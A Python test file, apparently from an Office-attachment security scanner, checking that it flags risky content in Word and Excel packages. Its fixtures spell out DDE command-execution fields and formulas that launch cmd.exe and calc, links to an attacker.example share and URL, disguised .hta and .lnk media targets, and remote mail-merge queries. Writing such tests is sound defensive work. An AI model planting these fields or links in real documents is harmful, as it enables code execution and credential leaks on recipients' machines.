    found = [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "oleObject")]
    assert threats(analyse_package(docx(rels=[("oleObject", target, True)]))) == (
        found if flagged else []
    )


@pytest.mark.parametrize(
    ("kind", "target", "flagged"),
    [
        ("audio", "file:///C:\\Documents and Settings\\me\\My Documents\\chime.mp3", False),
        ("video", "C:\\Users\\me\\Videos\\intro.mp4", False),
        ("audio", "\\\\attacker.example\\s\\chime.mp3", True),
        ("video", "https://attacker.example/intro.mp4", True),
        ("video", "C:\\Users\\Public\\Downloads\\clip.hta", True),  # no video
        ("audio", "C:\\Users\\me\\chime.mp3.lnk", True),
    ],
)
def test_a_sound_or_video_linked_from_a_local_drive(kind: str, target: str, flagged: bool) -> None:
    # PowerPoint 2007 linked an inserted .mp3 by its path (Tika's testPPT_2imgs.pptx)
    found = [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", kind)]
    assert threats(analyse_package(docx(rels=[(kind, target, True)]))) == (found if flagged else [])


# Mac Excel's reporting add-ins keep UTF-16 XML that says it is UTF-8 in a sheet's custom
# property (Apache POI's bug 61034 workbook): Excel hands it to the add-in unread
_ADD_IN_DATA = '<?xml version="1.0" encoding="utf-8"?><SET xmlns="urn:x"/>'.encode("utf-16-le")
_CUSTOM_PROPERTY = f"{OOXML}spreadsheetml.customProperty"


@pytest.mark.parametrize(
    ("rel_type", "content_type", "damaged"),
    [
        ("customProperty", _CUSTOM_PROPERTY, False),
        ("customProperty", "application/xml", True),
        ("worksheet", _CUSTOM_PROPERTY, True),  # reached as a sheet: Excel parses it
    ],
)
def test_an_add_ins_custom_property_is_not_parsed_as_xml(
    rel_type: str, content_type: str, damaged: bool
) -> None:
    sheet = worksheet().replace("</worksheet>", '<customProperties><customPr name="x" r:id="rId1"/>'
                                "</customProperties></worksheet>")  # fmt: skip
    parts: Parts = {
        "xl/worksheets/_rels/sheet1.xml.rels": rels_xml(
            [(rel_type, "../customProperty1.bin", False)]
        ),
        "xl/customProperty1.bin": _ADD_IN_DATA,
    }
    data = xlsx(sheet, parts=parts, overrides={"xl/customProperty1.bin": content_type})
    found = [
        p.kind for p in analyse_package(data).problems if p.location == "xl/customProperty1.bin"
    ]
    assert (OpcKind.DAMAGED in found) is damaged


# -- red team 92: XML chunks Word imports (a flat package, Word 2003 XML) ------------------------


def _flat(package: bytes) -> bytes:
    """``package`` as Word's flat XML document: every part inline with its content type, XML
    as XML, the rest in base64."""
    parts = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        types = ElementTree.fromstring(archive.read("[Content_Types].xml"))  # noqa: S314
        overrides = {o.get("PartName", "").lstrip("/"): o.get("ContentType", "") for o in types}
        for name in archive.namelist():
            if name == "[Content_Types].xml":
                continue
            data = archive.read(name)
            kind = overrides.get(name) or "application/vnd.openxmlformats-package.relationships+xml"
            if data.lstrip().startswith(b"<"):
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                inner = b"<pkg:xmlData>" + body + b"</pkg:xmlData>"
            else:
                inner = b"<pkg:binaryData>" + base64.b64encode(data) + b"</pkg:binaryData>"
            head = f'<pkg:part pkg:name="/{name}" pkg:contentType="{kind}">'.encode()
            parts.append(head + inner + b"</pkg:part>")
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><pkg:package xmlns:pkg="http://schemas.microsoft'
        b'.com/office/2006/xmlPackage">' + b"".join(parts) + b"</pkg:package>"
    )


_DDE_BODY = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows'
    '\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
    "</w:r></w:p>"
)


def test_a_flat_package_word_imports_is_read_as_the_package_it_is() -> None:
    flat = _flat(docx(_DDE_BODY))
    assert flat_package(flat) is not None
    report = analyse_package(_chunk(flat, "application/xml", "afchunk1.xml"))
    assert threats(report) == []  # the chunk itself: read as its package, handed over
    [chunk] = [e for e in report.embedded if e.name == "word/afchunk1.xml"]
    assert chunk.kind is EmbeddedKind.PACKAGE and chunk.imported
    inner = analyse_package(chunk.data)
    assert {"word/document.xml", "word/header1.xml"} <= set(inner.word_parts)


@pytest.mark.parametrize(
    ("page", "content_type"),
    [
        (b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/'
         b'word/2003/wordml"><w:body/></w:wordDocument>', "application/xml"),
        (b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e "x">]><pkg:package xmlns:pkg="http://'
         b'schemas.microsoft.com/office/2006/xmlPackage"/>', "text/xml"),
        (b"\x00\x01binary", "application/octet-stream"),
    ],
    ids=["word-2003-xml", "flat-package-with-a-dtd", "unknown-type"],
)  # fmt: skip
def test_a_chunk_word_imports_in_a_format_not_read_is_damaged(
    page: bytes, content_type: str
) -> None:
    report = analyse_package(_chunk(page, content_type, "afchunk1.xml"))
    assert (OpcKind.DAMAGED, "word/afchunk1.xml", "altChunk") in threats(report)


def test_a_flat_package_word_imports_is_scanned_through_the_pipeline() -> None:
    from attachguard.report import Status
    from support.fake_clamd import FakeClamd, scanner_for

    data = _chunk(_flat(docx(_DDE_BODY)), "application/xml", "afchunk1.xml")
    with scanner_for(FakeClamd(), "allowed_extensions: [.docx]\n") as scanner:
        report = scanner.scan(data, "letter.docx")
        clean = scanner.scan(_chunk(_flat(docx()), "application/xml", "afchunk1.xml"), "a.docx")
    assert report.status is Status.REJECTED and "DDE" in {f.code.name for f in report.findings}
    assert clean.status is Status.APPROVED, clean.reasons


# -- formulas Excel keeps in attributes and in VML form controls ------------------------------
_XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
_SML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_VML_X = "urn:schemas-microsoft-com:office:excel"
_CDR = "http://schemas.openxmlformats.org/drawingml/2006/chartDrawing"
_A14 = "http://schemas.microsoft.com/office/drawing/2010/main"
_DDE = "cmd|&apos; /C calc&apos;!A0"
_SHARE = "&apos;\\\\attacker.example\\s\\[tools.xlsm]Sheet1&apos;!A1"
_FORMULA_PLACES = {
    "shape-textlink": f'<xdr:wsDr xmlns:xdr="{_XDR}"><xdr:sp macro="" textlink="{{}}"/></xdr:wsDr>',
    "picture-macro": f'<xdr:wsDr xmlns:xdr="{_XDR}"><xdr:pic macro="{{}}"/></xdr:wsDr>',
    "control-range": f'<formControlPr xmlns="{_X14}" objectType="List" fmlaRange="{{}}"/>',
    "control-link": f'<formControlPr xmlns="{_X14}" objectType="CheckBox" fmlaLink="{{}}"/>',
    "sheet-control": f'<worksheet xmlns="{_SML}"><controlPr linkedCell="{{}}"/></worksheet>',
    # red team 103: a chart's user shape, Excel 2010's camera tool
    "chart-user-shape": f'<c:userShapes xmlns:c="{_CDR}"><c:sp textlink="{{}}"/></c:userShapes>',
    "camera-tool": f'<xdr:wsDr xmlns:xdr="{_XDR}"><a14:cameraTool xmlns:a14="{_A14}" '
    'cellRange="{}"/></xdr:wsDr>',
    "vml-link": f'<xml xmlns:x="{_VML_X}"><x:ClientData><x:FmlaLink>{{}}</x:FmlaLink>'
    "</x:ClientData></xml>",
    # as Excel writes its VML: an unclosed <br>, read leniently
    "vml-lenient": f'<xml xmlns:x="{_VML_X}"><x:ClientData><br><x:FmlaRange>{{}}</x:FmlaRange>'
    "</x:ClientData></xml>",
}


@pytest.mark.parametrize("place", sorted(_FORMULA_PLACES))
@pytest.mark.parametrize(
    ("formula", "dde", "remote"),
    [(_DDE, True, False), (_SHARE, False, True), ("$A$1", False, False)],
)
def test_formulas_in_attributes_and_form_controls_are_weighed(
    place: str, formula: str, dde: bool, remote: bool
) -> None:
    """A drawing's text link or macro, a form control's linked cell or input range: Excel
    evaluates them as formulas, so a DDE call or a workbook on a share there counts as in a
    cell; a plain reference passes."""
    from attachguard.formats.ooxml_xml import PartXml, XmlRejected, lenient_vml

    part = _FORMULA_PLACES[place].format(formula).encode()
    info: PartXml | None
    try:
        info = read_part(part)
    except XmlRejected:
        assert place == "vml-lenient"
        info = lenient_vml(part)
    assert info is not None
    assert (info.dde_formula, info.remote_formula) == (dde, remote)


# -- embedded fonts ----------------------------------------------------------------------------
def _with_font(font: bytes, content_type: str, rel: str = "font") -> bytes:
    """A Word document with an embedded font part (``word/fonts/font1.fntdata``)."""
    from support.oletools_data import docx

    data = docx(
        rels=[(rel, "fonts/font1.fntdata", False)], parts={"word/fonts/font1.fntdata": font}
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            member = old.read(info)
            if info.filename == "[Content_Types].xml":
                default = f'<Default Extension="fntdata" ContentType="{content_type}"/>'
                member = member.replace(b"</Types>", default.encode() + b"</Types>")
            new.writestr(info, member)
    return out.getvalue()


# an EOT font of 30,012 bytes (0x753C): its first byte is "<" (hunt 98's conference decks)
_EOT = (30_012).to_bytes(4, "little") + b"\x00\x00\x01\x00binary glyphs"


@pytest.mark.parametrize("content_type", ["application/x-fontdata", "font/ttf"])
def test_an_embedded_font_is_not_read_as_xml(content_type: str) -> None:
    assert threats(analyse_package(_with_font(_EOT, content_type))) == []


def test_xml_typed_as_a_font_but_reached_otherwise_is_read() -> None:
    """Only a font reached as a font is opaque: a part a document relationship reaches is read
    as Office reads it, whatever its type says."""
    report = analyse_package(_with_font(_EOT, "application/x-fontdata", rel="customXml"))
    assert [p.kind for p in report.problems if not p.kind.info] == [OpcKind.DAMAGED]


def test_webservice_passed_by_name_in_a_workbook_is_a_fetch() -> None:
    """Excel stores a function passed to another by its prefixed name (review 102: the part
    was never read for it)."""
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData><row><c><f>COUNTA(MAP(A1:A3,_xlfn.WEBSERVICE))</f></c></row></sheetData>"
        b"</worksheet>"
    )
    assert read_part(sheet).fetching_formula
    assert not read_part(sheet.replace(b"_xlfn.WEBSERVICE", b"_xlfn.XLOOKUP")).fetching_formula


@pytest.mark.parametrize(
    ("element", "found"),
    [("<w:query w:val=\"SELECT * FROM `\\\\srv\\s\\data.xlsx`.`Sheet1$`\"/>", True),
     ("<w:query w:val=\"SELECT * FROM `C:\\Users\\me\\data.xlsx`.`Sheet1$`\"/>", False),
     ("<w:odso><w:udl w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source="
      "\\\\srv\\s\\data.xlsx\"/></w:odso>", True)],
    ids=["query-on-a-share", "query-local", "udl-on-a-share"],
)  # fmt: skip
def test_a_mail_merges_query_and_udl_are_read(element: str, found: bool) -> None:
    """Word runs the merge's query as the document opens (red team 103: only the connection
    string was read)."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    part = f'<w:settings xmlns:w="{w}"><w:mailMerge>{element}</w:mailMerge></w:settings>'
    sources = read_part(part.encode()).sources
    assert any(source.kind == "merge" and "srv" in source.target for source in sources) is found
